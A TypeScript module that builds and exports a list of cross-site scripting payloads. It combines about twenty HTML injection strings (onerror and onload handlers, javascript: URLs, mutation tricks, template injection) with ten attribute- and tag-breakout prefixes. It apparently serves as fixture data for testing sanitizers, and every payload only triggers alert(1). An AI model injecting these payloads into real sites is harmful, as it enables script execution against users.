/** Markup that runs a script as soon as a page takes it for its own. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script href="data:text/javascript,alert(1)"></script></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>punkt</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>punkt</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<object data="javascript:alert(1)" onerror=alert(1)></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style onload=alert(1)>*{display:none}</style>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<body onpageshow=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '\u2028<img src=x onerror=alert(1)>{{constructor.constructor("alert(1)")()}}',
] as const

/** What ends the place where the text stands: an attribute, a title, a text field, a comment, a mark. */
const exits = [
  '',
  '">',
  "'>",
  '" onfocus="alert(1)" autofocus x="',
  '</title>',
  '</textarea></p>',
  '</style></script>-->',
  '</mark></blockquote></a>',
  '&quot;&gt;&#34;>',
  '\\"></label></option></select>',
] as const

/** Every attack from every place. */
export const payloads: readonly string[] = exits.flatMap((exit) => attacks.map((attack) => exit + attack))
